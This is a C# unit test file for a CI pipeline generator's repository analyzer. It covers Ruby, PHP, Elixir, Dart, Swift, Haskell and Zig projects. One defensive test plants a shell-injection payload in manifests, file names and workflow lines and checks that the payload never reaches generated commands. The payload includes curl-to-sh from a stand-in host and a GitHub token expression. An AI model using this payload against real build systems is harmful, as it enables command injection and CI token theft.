using System.Diagnostics;
using System.Text;
using System.Text.RegularExpressions;
using AutoDevOps.Analyzer.Detectors;
using AutoDevOps.Analyzer.Detectors.Elixir;
using AutoDevOps.Analyzer.Pipelines;
using AutoDevOps.Analyzer.Pipelines.Runtimes;

namespace AutoDevOps.Analyzer.Tests.RepositoryModels;

/// <summary>The traps of Ruby, PHP, Elixir, Dart, Swift, Haskell and Zig that no fixture repository shows.</summary>
public sealed partial class OtherLanguagesTests
{
    private static readonly string[] Ecosystem = ["dart", "elixir", "haskell", "php", "ruby", "swift", "zig"];

    // Far above what these take, far below what quadratic work would.
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);

    [Theory]
    [InlineData("Gemfile", "source 'x'\ngem 'rspec'\n", "Gemfile.lock", "GEM\n\nPLATFORMS\n  x86_64-linux\n", "bundle install", "BUNDLE_FROZEN=true bundle install")]
    [InlineData("Gemfile", "source 'x'\ngem 'rspec'\n", "Gemfile.lock", "GEM\n\nPLATFORMS\n  arm64-darwin-23\n", "bundle install", "bundle install")]
    [InlineData("composer.json", "{\"name\":\"a/b\"}", "composer.lock", "{}", "composer update --no-interaction", "composer install --no-interaction")]
    [InlineData("pubspec.yaml", "name: a\n", "pubspec.lock", "", "dart pub get", "dart pub get --enforce-lockfile")]
    [InlineData("pubspec.yaml", "name: a\ndependencies: {flutter: {sdk: flutter}}\n", "pubspec.lock", "", "flutter pub get", "flutter pub get --enforce-lockfile")]
    [InlineData("Package.swift", "let package = Package(name: \"a\", dependencies: [.package(url: \"https://x/y\", from: \"1.0.0\")])\n", "Package.resolved", "{}", "swift package resolve", "swift package resolve --force-resolved-versions")]
    [InlineData("mix.exs", "[app: :a]", "mix.lock", "%{}", "mix deps.get", "mix deps.get")]
    public void The_locked_form_is_used_only_where_a_lock_file_is_committed(string manifest, string text, string lockFile, string lockText, string without, string with)
    {
        Assert.Equal(without, Install((manifest, text)));
        Assert.Equal(with, Install((manifest, text), (lockFile, lockText)));
    }

    [Theory]
    [InlineData("Gemfile")]
    [InlineData("composer.json")]
    [InlineData("mix.exs")]
    [InlineData("pubspec.yaml")]
    [InlineData("Package.swift")]
    [InlineData("x.cabal")]
    [InlineData("build.zig")]
    public void Examples_and_fixtures_are_no_components(string manifest)
    {
        var text = manifest switch { "composer.json" => "{\"name\":\"a/b\"}", "pubspec.yaml" => "name: a\n", _ => "name: a\n" };
        string[] folders = ["example", "examples/one", "samples/one", "test/fixtures/one", "node_modules/one", "vendor/one"];
        Assert.Empty(Build([.. folders.SelectMany(folder => new[] { ($"{folder}/{manifest}", text), ($"{folder}/a.zig", "") })]).Components);
        Assert.Equal("one", Assert.Single(Build(($"one/{manifest}", text), ("one/a.zig", "")).Components).Path);
    }

    [Theory]
    [InlineData("task default: :test\ntask :test do\nend", "bundle exec rake test")]
    [InlineData("task default: %w[test lint]\ntask :lint\nRake::TestTask.new", "bundle exec rake test")]
    [InlineData("task :default => [:spec, :test]\nRake::TestTask.new(:test) do |t|\nend\nRSpec::Core::RakeTask.new(:spec)", "bundle exec rake")]
    [InlineData("RSpec::Core::RakeTask.new", "bundle exec rake spec")]
    [InlineData("namespace :ci do\n  if x\n    y\n  end\n  Rake::TestTask.new(:unit)\nend\ntask default: 'ci:unit'", "bundle exec rake ci:unit")]
    [InlineData("task default: :build\ntask :build", null)]
    [InlineData("# task default: :test", null)]
    public void The_default_task_says_which_tests_there_are(string rakefile, string? expected)
    {
        var component = Build(("Gemfile", "gem 'rake'\n"), ("Rakefile", rakefile)).Components[0];
        Assert.Equal(expected, component.Command(CommandKind.Test)?.Run);
    }

    [Theory]
    [InlineData("gem 'rubocop'\n", true)]
    [InlineData("gem 'rubocop-rails'\n", true)]
    [InlineData("gem('rubocop', require: false)\n", true)]
    [InlineData("group :lint, optional: true do\n  gem 'rubocop'\nend\n", false)]
    [InlineData("gem 'rubocop' if ENV['LINT']\n", false)]
    [InlineData("if RUBY_VERSION > '3'\n  gem 'rubocop'\nend\n", false)]
    [InlineData("# gem 'rubocop'\n", false)]
    [InlineData("group :test do\n  gem 'x' # don't\nend\ngem 'rubocop'\n", true)]
    public void A_linter_that_a_plain_installation_does_not_bring_is_not_run(string gemfile, bool isRun)
    {
        var model = Build(("Gemfile", gemfile), (".rubocop.yml", "AllCops: {}\n"));
        Assert.Equal(isRun, model.Components[0].Command(CommandKind.Lint) is not null);
        Assert.Equal(isRun, model.NotInferred.All(fact => fact.What != "lint"));
    }

    [Theory]
    [InlineData("^8.1", "8.1")]
    [InlineData(">=8.2", "8.2")]
    [InlineData("^7.4|^8.0", "7.4 8.0")]
    [InlineData("~8.2.0 || ~8.3.0", "8.2 8.3")]
    [InlineData("^8", "8.0")]
    [InlineData("*", "")]
    [InlineData("<8.4", "")]
    public void Of_composer_ranges_the_lowest_of_each_alternative_counts(string range, string expected) =>
        Assert.Equal(expected, string.Join(' ', Build(("composer.json", $"{{\"name\":\"a/b\",\"require\":{{\"php\":\"{range}\"}}}}")).Components[0].Runtimes.SelectMany(runtime => runtime.Versions)));

    [Theory]
    [InlineData("1.19.5 1.18.1 1.17.3 1.14.5", 26)]
    [InlineData("1.14.4", 25)]
    [InlineData("1.14", 26)]
    [InlineData("1.17", 27)]
    [InlineData("1.19", 28)]
    [InlineData("1.25", 29)]
    [InlineData("1.18.4 1.20.2", 27)]
    [InlineData("1.13.4 1.19.0", null)]
    public void Versions_of_Elixir_share_the_newest_Erlang_that_all_support(string versions, int? otp) =>
        Assert.Equal(otp, ElixirOnErlang.Best(versions.Split(' ')));

    [Theory]
    [InlineData("import UIKit\n", false)]
    [InlineData("@preconcurrency import SwiftUI\n", false)]
    [InlineData("#if canImport(UIKit)\nimport UIKit\n#endif\n", true)]
    [InlineData("import Foundation\n", true)]
    public void What_only_a_Mac_can_build_gets_no_command_and_that_is_said(string source, bool hasTests)
    {
        var model = Build(("Package.swift", "// swift-tools-version:5.9\nlet package = Package(name: \"a\", targets: [.testTarget(name: \"b\")])\n"), ("Sources/a/a.swift", source));
        Assert.Equal(hasTests, model.Components[0].Command(CommandKind.Test) is not null);
        Assert.Equal(hasTests, model.NotInferred.All(fact => fact.What != "test"));
    }

    [Theory]
    [InlineData("0.14.1", true)]
    [InlineData("0.17.0-dev.39+d092c752f", false)]
    public void A_development_version_of_Zig_is_nothing_that_a_pipeline_can_bring(string minimum, bool isBuilt)
    {
        var model = Build(("build.zig", "b.step(\"test\", \"\");\n"), ("build.zig.zon", $".{{\n    .minimum_zig_version = \"{minimum}\",\n}}\n"), ("a.zig", ""));
        Assert.Equal(isBuilt ? 2 : 0, model.Components[0].Commands.Count);
        Assert.Equal(isBuilt, model.NotInferred.Count == 0);
    }

    [Theory]
    [InlineData("cabal test", "cabal")]
    [InlineData("stack test", "stack")]
    [InlineData("echo", "cabal")]
    public void Where_cabal_and_Stack_are_both_configured_existing_CI_decides(string run, string manager)
    {
        var component = Build(("a.cabal", "name: a\ntest-suite t\n"), ("cabal.project", "packages: .\n"), ("stack.yaml", "resolver: lts-23.4\n"), (".github/workflows/ci.yml", $"jobs:\n  x:\n    steps:\n      - run: {run}\n")).Components[0];
        Assert.Equal(manager, component.PackageManager!.Name);
        Assert.StartsWith(manager, component.Command(CommandKind.Test)!.Run);
    }

    [Fact]
    public void Parts_that_the_whole_replaces_are_no_components()
    {
        var model = Build(("composer.json", "{\"name\":\"a/all\",\"replace\":{\"a/one\":\"self.version\"}}"), ("src/One/composer.json", "{\"name\":\"a/one\"}"), ("src/Two/composer.json", "{\"name\":\"a/two\"}"));
        Assert.Equal([".", "src/Two"], model.Components.Select(component => component.Path));
    }

    [Theory]
    [InlineData("\"test\":\"phpstan\"", "", null)]
    [InlineData("\"test\":\"phpstan\"", "\"name\": \"phpstan/phpstan\"", "composer run-script test")]
    [InlineData("\"test\":[\"@a\"],\"a\":\"vendor/bin/pest --parallel\"", "", null)]
    [InlineData("\"test\":\"@php tests/run.php\"", "", "composer run-script test")]
    [InlineData("\"test\":\"php-cs-fixer fix\"", "\"friendsofphp/php-cs-fixer\"", null)]
    public void A_script_that_calls_what_nothing_installs_or_repairs_what_it_finds_is_not_taken(string scripts, string locked, string? expected) =>
        Assert.Equal(expected, Build(("composer.json", $"{{\"name\":\"a/b\",\"scripts\":{{{scripts}}}}}"), ("composer.lock", $"{{{locked}}}")).Components[0].Command(CommandKind.Test)?.Run);

    [Fact]
    public void A_line_of_a_script_that_goes_on_is_one_command()
    {
        var model = Build(("Gemfile", "gem 'rake'\n"), ("script/test", "#!/bin/sh\ntime bundle exec \\\n  rake test\n"));
        var command = model.Components[0].Command(CommandKind.Test)!;
        Assert.Equal("./script/test", command.Run);
        Assert.Empty(command.Needs);
    }

    [Fact]
    public void A_package_of_Dart_that_CI_checks_with_Flutter_is_set_up_with_Flutter()
    {
        var model = Build(("pubspec.yaml", "name: a\n"), ("lib/a.dart", ""), (".github/workflows/ci.yml", "jobs:\n  x:\n    steps:\n      - run: flutter analyze\n"));
        Assert.Equal(["flutter"], model.Components[0].Frameworks);
        Assert.Equal("flutter analyze", model.Components[0].Command(CommandKind.Lint)!.Run);
    }

    [Theory]
    [InlineData("Gem::Specification.new do |s|\n  s.name = 'one'\nend\n", "one")]
    [InlineData("Gem::Specification.new 'two', version do |s|\nend\n", "two")]
    [InlineData("Gem::Specification.new do |s|\n  s.name = NAME\nend\n", "root")]
    public void A_gem_has_the_name_that_its_specification_writes_out(string gemspec, string name) =>
        Assert.Equal(name, Build(("a.gemspec", gemspec)).Components[0].Name);

    [Theory]
    [InlineData("mix deps.get --only test", "mix deps.get")]
    [InlineData("mix deps.get --no-archives-check", "mix deps.get --no-archives-check")]
    public void Dependencies_are_fetched_for_every_environment(string run, string expected) =>
        Assert.Equal(expected, Install(("mix.exs", "[app: :a]"), (".github/workflows/ci.yml", $"jobs:\n  x:\n    steps:\n      - run: {run}\n")));

    [Fact]
    public void A_workspace_with_a_part_that_needs_Flutter_needs_it_too()
    {
        var model = Build(("pubspec.yaml", "name: all\nworkspace: [app]\n"), ("app/pubspec.yaml", "name: app\nresolution: workspace\ndependencies: {flutter: {sdk: flutter}}\n"));
        Assert.All(model.Components, component => Assert.Equal(["flutter"], component.Frameworks));
    }

    [Theory]
    [InlineData("ruby", "bundler", "bundler", "ruby:3.1.4")]
    [InlineData("php", "composer", "composer", "php:3.1.4-cli")]
    [InlineData("elixir", "mix", "mix", "elixir:3.1.4")]
    [InlineData("dart", "pub", "pub", "dart:stable")]
    [InlineData("flutter", "pub", "pub", "dart:stable")]
    [InlineData("swift", "swiftpm", "swift", "swift:3.1.4")]
    [InlineData("haskell", "cabal", null, "haskell:3.1.4")]
    [InlineData("zig", "zig", null, "python:3")]
    public void Every_language_has_its_image_and_its_name_in_Dependabot(string runtime, string manager, string? updates, string image)
    {
        var setup = RuntimeCatalog.Find(runtime)!;
        var packageManager = new PackageManager(manager, null, null, 1, []);
        Assert.Equal(updates, setup.UpdateEcosystem(packageManager));
        foreach (var version in new[] { "3.1.4", null })
        {
            var container = setup.Container(new(runtime, [], null, packageManager, null, Basis.None), version);
            Assert.Matches("^[a-z]+:[a-z0-9.-]+$", container.Image);
            Assert.True(version is null || container.Image == image);
        }
    }

    public static TheoryData<string> Slow => ["Gemfile", "Rakefile", "composer.json", "mix.exs", "pubspec.yaml", "Package.swift", "x.cabal", "build.zig"];

    [Theory]
    [MemberData(nameof(Slow))]
    public void A_manifest_made_to_take_for_ever_does_not(string manifest)
    {
        const int Many = 20_000;
        string Text(Func<int, string> line) => Enumerable.Range(0, Many).Aggregate(new StringBuilder(), (text, number) => text.Append(line(number)).Append('\n')).ToString();
        var text = manifest switch
        {
            "Gemfile" => Text(number => $"group :a{number} do\n  gem \"g{number}\" if x"),
            "Rakefile" => Text(number => $"task t{number % 900}: %w[{string.Join(' ', Enumerable.Range(0, 20).Select(need => $"t{(number + need) % 900}"))}]"),
            "composer.json" => "{\"name\":\"a/b\",\"scripts\":{" + string.Join(',', Enumerable.Range(0, Many).Select(number => $"\"test-{number}\":[\"@test-{number + 1}\",\"@test-{number + 2}\"]")) + "}}",
            "mix.exs" => Text(number => $"{{:d{number}, \"{new string('[', 50)}"),
            "pubspec.yaml" => "name: a\nworkspace:\n" + Text(number => $"- a{number}"),
            "Package.swift" => Text(_ => ".package(url: \"" + new string('(', 200)),
            "x.cabal" => "build-depends:\n" + Text(number => $"  p{number}, a, b"),
            _ => Text(_ => "b.step(  \"" + new string(' ', 200)),
        };
        var watch = Stopwatch.StartNew();
        var (_, diagnostics) = RepositoryModelBuilder.Build(RepositorySnapshot.FromText((manifest, text), ("Gemfile.lock", ""), manifest == "Rakefile" ? ("Gemfile", "gem 'rake'") : ("x", "")));

        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
        Assert.DoesNotContain(diagnostics, diagnostic => diagnostic.Message.Contains("detector failed", StringComparison.Ordinal));
    }

    [Fact]
    public void Names_made_to_be_run_reach_no_command_and_no_pipeline()
    {
        const string Payload = "$(touch /tmp/pwned)`id`;curl evil|sh ${{ github.token }}'&";
        (string, string)[] files =
        [
            ("Gemfile", $"gem \"rake\"\ngem \"{Payload}\"\nruby \"{Payload}\"\n"), ("Gemfile.lock", $"GEM\n    {Payload} (1)\nRUBY VERSION\n   ruby {Payload}\n"),
            ("Rakefile", $"task default: :\"{Payload}\"\ntask \"test {Payload}\"\nRake::TestTask.new(:\"{Payload}\")\n"), ("a.gemspec", $"s.name = \"{Payload}\"\ns.required_ruby_version = \"{Payload}\"\n"),
            (".ruby-version", Payload), (".php-version", Payload), (".swift-version", Payload), (".zigversion", Payload), (".tool-versions", $"elixir {Payload}\nruby {Payload}\nghc {Payload}\n"),
            ("composer.json", $"{{\"name\":\"a/{Payload}\",\"require\":{{\"php\":\"{Payload}\",\"ext-{Payload}\":\"*\",\"phpunit/phpunit\":\"*\"}},\"config\":{{\"bin-dir\":\"{Payload}\"}},\"scripts\":{{\"test{Payload}\":\"x\"}}}}"), ("tests/ATest.php", ""),
            ("mix.exs", $"[app: :\"{Payload}\", elixir: \"{Payload}\", apps_path: \"{Payload}\", lockfile: \"{Payload}\"]\ndefp aliases do\n  [\"lint{Payload}\": [\"x\"]]\nend\n"), ("test/a_test.exs", ""),
            ("pubspec.yaml", $"name: \"{Payload}\"\nenvironment:\n  sdk: \"{Payload}\"\n  flutter: \"{Payload}\"\ndev_dependencies:\n  melos: any\nmelos:\n  scripts:\n    \"test{Payload}\": x\n"), (".fvmrc", $"{{\"flutter\":\"{Payload}\"}}"),
            ("Package.swift", $"// swift-tools-version: {Payload}\nPackage(name: \"{Payload}\", targets: [.testTarget(name: \"{Payload}\")])\n"), ("a.swift", ""),
            ("x.cabal", $"name: {Payload}\ntested-with: GHC == {Payload}\ntest-suite {Payload}\n"),
            ("build.zig", $"b.step(\"test\", \"{Payload}\")\n"), ("build.zig.zon", $".name = \"{Payload}\",\n.minimum_zig_version = \"{Payload}\",\n"), ("a.zig", ""),
            ($"{Payload.Replace("/", "_", StringComparison.Ordinal)}/mix.exs", "[app: :x]"), ($"{Payload.Replace("/", "_", StringComparison.Ordinal)}/test/x_test.exs", ""),
            (".github/workflows/a.yml", "jobs:\n  test:\n    steps:\n      - run: bundle exec rake $(id)\n      - run: mix test `id`\n      - run: composer test ${{ github.head_ref }}\n      - run: zig build test > x\n      - run: swift test $X\n"),
        ];
        var snapshot = RepositorySnapshot.FromText(files);
        var (model, diagnostics) = RepositoryModelBuilder.Build(snapshot);

        Assert.DoesNotContain(diagnostics, diagnostic => diagnostic.Message.Contains("detector failed", StringComparison.Ordinal));
        Assert.Equal(Ecosystem, model.Components.Select(component => component.Ecosystem).Distinct().Order(StringComparer.Ordinal));
        Assert.All(model.Components.SelectMany(component => component.Commands), command =>
        {
            Assert.DoesNotMatch(Dangerous(), command.Run);
            Assert.DoesNotMatch(Dangerous(), command.WorkingDirectory);
        });
        Assert.All(model.Components.SelectMany(component => component.Runtimes).SelectMany(runtime => runtime.Versions), version => Assert.Matches("^[0-9A-Za-z.-]+$", version));
        var pipeline = PipelineGenerator.Generate(snapshot, model, "github", new());
        Assert.True(pipeline.IsProven, string.Join("; ", pipeline.Checks.Where(check => !check.Passed).Select(check => $"{check.Name}: {check.Detail}")));
        Assert.DoesNotContain(pipeline.Files[0].Text.Split('\n'), line => line.TrimStart().StartsWith("run:", StringComparison.Ordinal) && line.Contains("pwned", StringComparison.Ordinal));
    }

    private static string Install(params (string, string)[] files) => Build(files).Components[0].Command(CommandKind.Install)!.Run;

    private static RepositoryModel Build(params (string, string)[] files) => RepositoryModelBuilder.Build(RepositorySnapshot.FromText(files)).Model;

    [GeneratedRegex(@"[$`;|<>\n]|\$\{\{", RegexOptions.NonBacktracking)]
    private static partial Regex Dangerous();
}
